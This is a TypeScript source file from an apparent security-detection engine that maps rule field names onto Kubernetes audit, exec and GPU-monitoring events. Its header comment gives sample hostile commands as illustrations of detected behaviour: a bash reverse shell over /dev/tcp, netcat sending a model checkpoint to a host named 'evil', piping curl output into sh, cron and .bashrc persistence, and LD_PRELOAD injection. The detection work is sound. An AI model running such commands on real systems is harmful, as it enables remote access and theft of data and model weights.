/**
 * Field names for MLShield rules over normalised events (DESIGN.md `events`): source, action,
 * resource, actor, namespace, job, node, gpu, outcome, `attrs.<path>` (any depth, e.g.
 * `attrs.bytes`, `attrs.exec.command`, `attrs.audit.objectRef.subresource`), and `sourceIP`: the
 * first of the audit event's `sourceIPs`, else `attrs.sourceIP` / `source_ip` / `client_addr` (app events);
 * `destinationHost`: the host of `attrs.destination` (else `attrs.url`), lower-case, without port
 * or brackets — so rules test hosts with `cidr` / `endswith` instead of regexes over URLs;
 * `destination`: `attrs.destination`, else `attrs.url` (one field for "where did the bytes go");
 * `attrs.exec.command` fans over the argv and its canonical reading (exec-canonical.ts: the
 * `sh -c` script as the shell reads it, tool basenames, short-flag clusters split);
 * `attrs.exec.indirect`: whether that reading ran text no word spells, and how it came about
 * (false, else `true` and `decoded` / `literal` / `runtime`; exec-readings.ts);
 * `attrs.exec.pipedToShell`: the tools whose output a shell (or Python) in the same pipeline runs
 * as its script, in any reading (exec-pipelines.ts: `curl … | sh` gives `curl`);
 * `attrs.exec.fetchedThenRun`: the fetch and pull tools whose downloaded file a later command of the
 * same reading runs (exec-fetched-run.ts: `curl -o /tmp/x URL; sh /tmp/x` gives `curl`, `git clone U
 * /tmp/x && bash /tmp/x/run.sh` gives `git`);
 * `attrs.exec.argvLine`: each command run from argv itself (not a script) as one line of its words
 * (`tar czf /tmp/m.tgz /mnt/ckpt`), and `attrs.exec.stdinFromFile`: the tools a script feeds a
 * file on standard input (`ssh h 'cat > x' < f` gives `ssh`), and `attrs.exec.clientInput`: the
 * commands a script feeds an FTP / SFTP / SMB client on standard input (`ftp -n h <<EOF … put f`
 * gives `ftp put f`), and `attrs.exec.copiesToRemote`: rsync / scp copying a local file to a remote
 * destination (`rsync -az /mnt/ckpt/ u@h:/x/` gives `rsync`), an object-store CLI copying to a
 * bucket (`aws s3 cp f s3://b/` gives `aws`; exec-bucket-copies.ts) (exec-command-lines.ts);
 * `attrs.exec.socketIo`: commands on a raw socket (`cat f > /dev/tcp/h/p` gives `send cat`, `bash -i
 * >& /dev/tcp/h/p 0>&1` gives `shell bash`; exec-socket-io.ts), interpreter code on a socket it
 * opened (`shell sh`, `send perl`; exec-interpreter-socket-shell.ts, -socket-send.ts);
 * `attrs.exec.persists`: what the exec leaves to run again (`crontab -` gives `cron`, `>> ~/.bashrc`
 * gives `profile`; exec-persistence.ts);
 * `attrs.exec.writes`: the files the exec writes, placed against its `cd`s (`cd /mnt/ckpt && cp
 * /tmp/x.pt model.pt` gives `/mnt/ckpt/model.pt`; interpreter code's own writes and weights saves too;
 * exec-persistence.ts), split by where their content comes from: `attrs.exec.pulls`, those a pull
 * from elsewhere wrote (`curl -o F URL`, `aws s3 cp s3://b/k F`, `hf download R --local-dir D`, `git
 * clone U D`: exec-pull-writes.ts), and `attrs.exec.localWrites`, the others (a copy, an edit, a
 * redirection of what the pod holds); `attrs.exec.copies`, each file given a new path with what the
 * pod holds as `SRC -> DEST` (`cp /mnt/ckpt/m.pt /dev/shm/.c` gives `/mnt/ckpt/m.pt -> /dev/shm/.c`;
 * Python's copies, moves and weights re-saved too; exec-persistence.ts);
 * `attrs.exec.toolWords`: each word a command gives the tool it runs, bound to it (`curl -sT f URL`
 * gives `curl -T`, `curl -T f`…; `aws s3 cp` gives `aws cp`), so "this tool with this option" is
 * one value, never a tool in one command and an option in another (exec-tool-words.ts);
 * `attrs.exec.toolLine`: each tool a command runs with its own words as one line (`gzip -t
 * /tmp/a.gz`), so "with this option and without that one" is said of one command (exec-tool-words.ts);
 * `attrs.exec.httpSendsTo`: `loopback` when every curl / wget command provably sends only to the
 * pod's loopback (`curl -d @req.json localhost:8000/v1/completions`), else `elsewhere`
 * (exec-http-destinations.ts);
 * `attrs.exec.netcatSends`: the netcat tools of commands not in zero-I/O mode (`nc evil 4444 <
 * /mnt/m.pt` gives `nc`, `nc -zv redis 6379` nothing; exec-netcat-sends.ts);
 * `attrs.exec.printsFile`: the files the exec prints to its own output, which goes back to the
 * client (`cat /mnt/ckpt/m.pt | gzip` gives `cat /mnt/ckpt/m.pt`; exec-client-output.ts);
 * `attrs.exec.environment`: the variables the exec's commands set, as `NAME=value`
 * (`LD_PRELOAD=/tmp/x.so python3 …`, `env P=… cmd`, `export P=…`; a word given to `echo` is none;
 * exec-environment.ts);
 * `attrs.exec.storeLoads`: the files data-store and broker clients load into their server, as
 * `<client> <file>` (`redis-cli -x SET k < /mnt/ckpt/m.pt` gives `redis-cli /mnt/ckpt/m.pt`,
 * `kcat -P -t t F`, `psql -c "\lo_import F"`; exec-store-loads.ts);
 * `attrs.exec.gpuSettings`: GPU settings and GPU monitoring changed, as `<tool> <setting> [value]`
 * (`nvidia-smi -pl 150` gives `nvidia-smi power-limit 150`, `dcgmi policy --clear` `dcgmi policy
 * clear`; exec-gpu-settings.ts);
 * `attrs.exec.restamps`: the files set to a chosen time, as `touch <file>` (`touch -r ref m.pt`;
 * exec-restamps.ts);
 * `attrs.exec.spawnsShell`: shells started for the session with no script, as `<starter> <shell>`
 * (`pty.spawn("/bin/bash")` in python3 gives `python3 bash`, `script -qc bash /dev/null` `script
 * bash`; exec-canonical.ts);
 * `actorNamespace`: the namespace of a service-account actor (where its token belongs);
 * `objectName`: the name of the object the event is about (`attrs.objectName`, else the audit
 * request's or response's `metadata.name`: a create may name it only in its body);
 * `workload.<field>`: what a workload created or changed through the API will run, its containers'
 * commands read as exec commands are (`workload.command`, `workload.toolWords`…), images and
 * environment (workload-fields.ts).
 * GPU-window rules use job, node, gpu, `duration` (seconds) and `<DCGM field>[.mean|.max|.min]`.
 */
import type { EventRecord } from '../../core/records.js';
import { compilePath, compileWalker, pathError } from './field-path.js';
import { obj, requestObjectGetter } from './json-patch-view.js';
import { attrOf, attrSlot, derivedOf, derivedSlot } from './event-scope.js';
import type { FieldLookup, FieldResolver } from './detection.js';
import type { GpuWindow } from './gpu-window.js';
import { parseDestination, type Destination } from './egress-match.js';
import { execIndirectReading, type ExecCanonical } from './exec-canonical.js';
import { derivedValues, execReading, memoizedTest, readingsOf, type ExecReading } from './exec-reading-memo.js';
import { EXEC_LIST_PICKS } from './exec-list-picks.js';
import { WORKLOAD_FIELDS, WORKLOAD_PREFIX, workloadField } from './workload-fields.js';

export const EVENT_FIELDS = ['source', 'action', 'resource', 'actor', 'actorNamespace', 'namespace', 'objectName', 'job', 'node', 'gpu', 'outcome', 'sourceIP', 'destination', 'destinationHost'] as const;

const SERVICE_ACCOUNT_PREFIX = 'system:serviceaccount:';
/** Namespaces are DNS labels (≤ 63 characters): a longer segment is not one. */
const MAX_NAMESPACE = 63;

/**
 * The namespace of a service-account actor (`system:serviceaccount:<namespace>:<name>`), else
 * null: where a workload's token belongs, to compare with where it is used.
 */
export function actorNamespace(e: EventRecord): string | null {
  return namespaceOfActor(e.actor);
}

/** `actorNamespace` of an event whose actor is `a`. */
export function namespaceOfActor(a: unknown): string | null {
  if (typeof a !== 'string' || !a.startsWith(SERVICE_ACCOUNT_PREFIX)) return null;
  const end = a.indexOf(':', SERVICE_ACCOUNT_PREFIX.length);
  if (end <= SERVICE_ACCOUNT_PREFIX.length || end - SERVICE_ACCOUNT_PREFIX.length > MAX_NAMESPACE) return null;
  return a.slice(SERVICE_ACCOUNT_PREFIX.length, end);
}

/** Reads of the attrs keys the engine and the derived fields use (event-scope.ts). */
export const ATTR = {
  audit: attrSlot('audit'),
  subresource: attrSlot('subresource'),
  code: attrSlot('code'),
  destination: attrSlot('destination'),
  url: attrSlot('url'),
  sourceIP: attrSlot('sourceIP'),
  source_ip: attrSlot('source_ip'),
  client_addr: attrSlot('client_addr'),
  objectName: attrSlot('objectName'),
} as const;

/** `e.attrs[key]` through the event scope (one slot per key; see event-scope.ts). */
export function attr(e: EventRecord, key: keyof typeof ATTR): unknown {
  return attrOf(e, ATTR[key], key);
}

/** The source IP of an event, if it has one. */
export function eventSourceIp(e: EventRecord): string | null {
  const audit = attrOf(e, ATTR.audit, 'audit');
  if (audit !== null && typeof audit === 'object') {
    const ips = (audit as Record<string, unknown>).sourceIPs;
    if (Array.isArray(ips) && typeof ips[0] === 'string') return ips[0];
  }
  // App events: the seed's shape has no fixed name; Ray's job API logs `client_addr`.
  const a = attrOf(e, ATTR.sourceIP, 'sourceIP') ?? attrOf(e, ATTR.source_ip, 'source_ip') ?? attrOf(e, ATTR.client_addr, 'client_addr');
  return typeof a === 'string' ? a : null;
}

/** The `metadata.name` of an audit request's or response's object, if it is a plain object that has one. */
function metadataName(o: unknown): string | null {
  const n = obj(obj(o)?.metadata)?.name;
  return typeof n === 'string' && n !== '' ? n : null;
}

/**
 * The name of the object an event is about: `attrs.objectName` (an audit event's `objectRef.name`),
 * else the name its audit request's object carries, else its response's. A create names the object
 * in its body, and an audit log may leave it out of `objectRef` (a `generateName` create is named
 * only in the response), so a rule keyed on the object (`sequence.by: [namespace, objectName]`)
 * meets its create and its later changes under one key.
 */
export function eventObjectName(e: EventRecord): string | null {
  const n = attrOf(e, ATTR.objectName, 'objectName');
  if (typeof n === 'string' && n !== '') return n;
  const audit = obj(attrOf(e, ATTR.audit, 'audit'));
  return audit === null ? null : metadataName(audit.requestObject) ?? metadataName(audit.responseObject);
}

const PARSED_DESTINATION = derivedSlot();

function parseEventDestination(e: EventRecord): Destination | null {
  const d = eventDestination(e);
  return d === null ? null : parseDestination(d);
}

/**
 * The event's destination parsed (egress-match.ts), once per event however many rules and specs
 * ask. Shared: callers must not change it (its `ip` memo aside, which only caches a pure result).
 */
export function eventParsedDestination(e: EventRecord): Destination | null {
  return derivedOf(e, PARSED_DESTINATION, parseEventDestination);
}

/** The host an app event sends to or fetches from, if it names one. */
export function eventDestinationHost(e: EventRecord): string | null {
  return eventParsedDestination(e)?.host ?? null;
}

/** Where an app event sends or fetches bytes: `attrs.destination`, else `attrs.url`. */
export function eventDestination(e: EventRecord): string | null {
  const d = attrOf(e, ATTR.destination, 'destination');
  if (typeof d === 'string') return d;
  const u = attrOf(e, ATTR.url, 'url');
  return typeof u === 'string' ? u : null;
}

const AUDIT_BODY = 'audit.requestObject';

/**
 * A getter for `attrs.<rest>`. Below `attrs.audit.requestObject`, a JSON Patch body is read as what
 * it writes (json-patch-view.ts), so `attrs.audit.requestObject.spec.type` sees a patch that makes
 * a Service a NodePort.
 */
function attrsGetter(rest: string): (e: EventRecord) => unknown {
  if (!rest.startsWith(`${AUDIT_BODY}.`)) return plainAttrsGetter(rest);
  return requestObjectGetter(plainAttrsGetter(AUDIT_BODY), plainAttrsGetter(rest), compilePath(rest.slice(AUDIT_BODY.length + 1)));
}

/**
 * A getter for `attrs.<rest>`: the first step through the event scope's slots, the rest of the
 * path as field-path.ts walks it (the same value as walking from `e.attrs`).
 */
function plainAttrsGetter(rest: string): (e: EventRecord) => unknown {
  const w = compileWalker(rest);
  const keys = w.firstKeys.map(([key, next]) => ({ key, next, slot: attrSlot(key) }));
  const n = w.segments;
  const walk = w.walk;
  const first = keys[0]!;
  if (keys.length === 1) {
    return (e) => {
      if (e.attrs === null || typeof e.attrs !== 'object' || Array.isArray(e.attrs)) return walk(e.attrs, 0);
      const v = attrOf(e, first.slot, first.key);
      return v === undefined || n === 1 ? v : walk(v, 1);
    };
  }
  return (e) => {
    if (e.attrs === null || typeof e.attrs !== 'object' || Array.isArray(e.attrs)) return walk(e.attrs, 0);
    for (let i = 0; i < keys.length; i++) {
      const k = keys[i]!;
      const v = attrOf(e, k.slot, k.key);
      if (v !== undefined) return k.next === n ? v : walk(v, k.next);
    }
    return undefined;
  };
}

/** The exec command path rules read (`attrs.exec.command`), below `attrs.`. */
const EXEC_COMMAND = 'exec.command';
const rawExecCommand = attrsGetter(EXEC_COMMAND);
const EXEC_READING = derivedSlot();

const readingOfEvent = (e: EventRecord): ExecReading => execReading(rawExecCommand(e) as string | unknown[]);

/**
 * The canonical reading of the event's `attrs.exec.command` (exec-canonical.ts), computed once per
 * event however many rules and specs ask, and once per command over events (exec-reading-memo.ts);
 * null when the event has no argv or command line. Only events with an exec command pay for it:
 * the others cost one slot read.
 */
export function eventExecCanonical(e: EventRecord): ExecCanonical | null {
  const v = rawExecCommand(e);
  if (typeof v !== 'string' && !Array.isArray(v)) return null;
  return derivedOf(e, EXEC_READING, readingOfEvent).canonical;
}

/**
 * The event's exec reading (exec-reading-memo.ts), or null when its `attrs.exec.command` is neither
 * a command line nor an argv. For an event with one, every field `readsExecReadingOnly` names is a
 * function of this reading alone.
 */
export function eventExecReading(e: EventRecord): ExecReading | null {
  const v = rawExecCommand(e);
  if (typeof v !== 'string' && !Array.isArray(v)) return null;
  return derivedOf(e, EXEC_READING, readingOfEvent);
}

/** `attrs.exec.command` as rules read it: the argv and its canonical reading (`execCommandReadings`). */
function execCommandValues(e: EventRecord): unknown {
  const v = rawExecCommand(e);
  if (typeof v !== 'string' && !Array.isArray(v)) return v;
  return readingsOf(derivedOf(e, EXEC_READING, readingOfEvent));
}

/** The derived exec field (below `attrs.`) that says whether the command ran text no word spells. */
const EXEC_INDIRECT = 'exec.indirect';
const rawExecIndirect = attrsGetter(EXEC_INDIRECT);

/**
 * `attrs.exec.indirect` as rules read it (`execIndirectReading`), from the event's one canonical
 * reading; an event without an exec command reads the attrs path as any other.
 */
function execIndirectValue(e: EventRecord): unknown {
  const v = rawExecCommand(e);
  if (typeof v !== 'string' && !Array.isArray(v)) return rawExecIndirect(e);
  return execIndirectReading(eventExecCanonical(e));
}

/**
 * A list-valued exec field below `attrs.` as rules read it, from the event's one canonical reading
 * (as `execIndirectValue`); an event without an exec command reads the attrs path as any other.
 */
function canonicalListField(path: string, pick: (c: ExecCanonical) => readonly string[]): (e: EventRecord) => unknown {
  const raw = attrsGetter(path);
  return (e) => {
    const v = rawExecCommand(e);
    if (typeof v !== 'string' && !Array.isArray(v)) return raw(e);
    const r = derivedOf(e, EXEC_READING, readingOfEvent);
    // Handed out through the reading memo: a rule test on the same command's field answers from its outcome before.
    return r.canonical === null ? [] : derivedValues(r, pick(r.canonical));
  };
}

/** Derived exec fields other than the lists, by their path below `attrs.`. */
const EXEC_DERIVED: Readonly<Record<string, (e: EventRecord) => unknown>> = {
  [EXEC_INDIRECT]: execIndirectValue,
};

/**
 * Derived exec list fields by their path below `attrs.` (`exec.toolWords`…; exec-list-picks.ts):
 * their tests are memoized per reading (exec-reading-memo.ts).
 */
const EXEC_LIST_FIELDS: Readonly<Record<string, (e: EventRecord) => unknown>> = Object.fromEntries(
  Object.entries(EXEC_LIST_PICKS).map(([name, pick]) => [`exec.${name}`, canonicalListField(`exec.${name}`, pick)]),
);

const TOP: Readonly<Record<string, (e: EventRecord) => unknown>> = {
  source: (e) => e.source,
  action: (e) => e.action,
  resource: (e) => e.resource,
  actor: (e) => e.actor,
  actorNamespace,
  namespace: (e) => e.namespace,
  objectName: eventObjectName,
  job: (e) => e.job,
  node: (e) => e.node,
  gpu: (e) => e.gpu,
  outcome: (e) => e.outcome,
  sourceIP: eventSourceIp,
  destination: eventDestination,
  destinationHost: eventDestinationHost,
};

/** Fields computed from others (not an EventRecord property of that name: never fused). */
const DERIVED = new Set(['sourceIP', 'destination', 'destinationHost', 'actorNamespace', 'objectName']);

/**
 * True for the fields whose value, on an event with an exec command line or argv, is read from
 * that command's reading alone (`eventExecReading`): `attrs.exec.command`, `attrs.exec.indirect`
 * and the derived lists (`attrs.exec.toolWords`…). Any other field, `attrs.exec.*` included, is
 * read from the event.
 */
export function readsExecReadingOnly(name: string): boolean {
  if (!name.startsWith('attrs.')) return false;
  const rest = name.slice(6);
  return rest === EXEC_COMMAND || Object.hasOwn(EXEC_DERIVED, rest) || Object.hasOwn(EXEC_LIST_FIELDS, rest);
}

/** Fields every event has whatever it is about: tested last within a selection (they rarely fail). */
const UNSELECTIVE = new Set(['source', 'outcome']);

export const eventFieldResolver: FieldResolver<EventRecord> = {
  field(name): FieldLookup<EventRecord> {
    const top = Object.prototype.hasOwnProperty.call(TOP, name) ? TOP[name] : undefined;
    // Own EventRecord properties can be fused with their test (detection.ts); derived ones cannot.
    if (top) return { get: top, cost: UNSELECTIVE.has(name) ? 1 : 0, ...(DERIVED.has(name) ? {} : { prop: name }) };
    if (name.startsWith('attrs.')) {
      const rest = name.slice(6);
      const err = pathError(rest);
      if (err) return { error: err };
      if (rest === EXEC_COMMAND) return { get: execCommandValues, cost: 1, memoTest: memoizedTest };
      if (Object.hasOwn(EXEC_LIST_FIELDS, rest)) return { get: EXEC_LIST_FIELDS[rest]!, cost: 1, memoTest: memoizedTest };
      const get = Object.hasOwn(EXEC_DERIVED, rest) ? EXEC_DERIVED[rest]! : attrsGetter(rest);
      return { get, cost: 1 };
    }
    if (name.startsWith(WORKLOAD_PREFIX)) {
      const w = workloadField(name.slice(WORKLOAD_PREFIX.length));
      if (w) return { get: w.get, cost: 2, ...(w.perReading ? { memoTest: memoizedTest } : {}) };
      return { error: `unknown workload field '${name}' (known: ${WORKLOAD_FIELDS.map((f) => WORKLOAD_PREFIX + f).join(', ')})` };
    }
    return { error: `unknown event field '${name}' (known: ${EVENT_FIELDS.join(', ')}, attrs.<path>, ${WORKLOAD_PREFIX}<field>)` };
  },
  keywords: (e) => [e.action, e.resource, e.actor, e.job, e.attrs],
};

const GPU_TOP: Readonly<Record<string, (w: GpuWindow) => unknown>> = {
  job: (w) => w.job,
  node: (w) => w.node,
  gpu: (w) => w.gpu,
  duration: (w) => (w.end - w.start) / 1e6,
};

export const gpuFieldResolver: FieldResolver<GpuWindow> = {
  field(name): FieldLookup<GpuWindow> {
    const top = Object.prototype.hasOwnProperty.call(GPU_TOP, name) ? GPU_TOP[name] : undefined;
    if (top) return { get: top, cost: 0 };
    const m = /^([A-Z][A-Z0-9_]{1,80})(?:\.(mean|max|min))?$/.exec(name);
    if (!m) return { error: `unknown GPU-window field '${name}' (known: job, node, gpu, duration, <DCGM_FIELD>[.mean|.max|.min])` };
    const field = m[1]!;
    const stat = (m[2] ?? 'mean') as 'mean' | 'max' | 'min';
    return {
      get: (w) => {
        const fields: unknown = w.fields;
        if (fields === null || typeof fields !== 'object') return undefined;
        const f = Object.prototype.hasOwnProperty.call(fields, field) ? (fields as GpuWindow['fields'])[field] : undefined;
        return f !== null && typeof f === 'object' ? f[stat] : undefined;
      },
      cost: 0,
    };
  },
  keywords: null,
};
